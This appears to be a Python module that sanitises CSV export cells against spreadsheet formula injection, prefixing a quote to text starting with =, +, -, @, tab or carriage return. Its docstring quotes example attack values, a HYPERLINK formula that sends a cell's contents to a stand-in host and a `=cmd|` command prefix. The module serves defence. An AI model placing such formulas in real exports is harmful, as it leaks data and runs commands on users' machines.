"""Cells a spreadsheet program will not run: CSV and XLSX exports carry text from documents.

A paragraph starting `=HYPERLINK("http://evil.example/?x="&A1, …)` or `=cmd|…` is a formula
to Excel and LibreOffice when opened from CSV, and so is text starting `+`, `-`, `@`, a tab
or a carriage return. The OWASP rule: such a cell gets a leading `'`, which the program
reads as "this is text". (XLSX cells are written with the string type instead: see
api.exports.write_xlsx.)
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """`value`, with a leading `'` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]
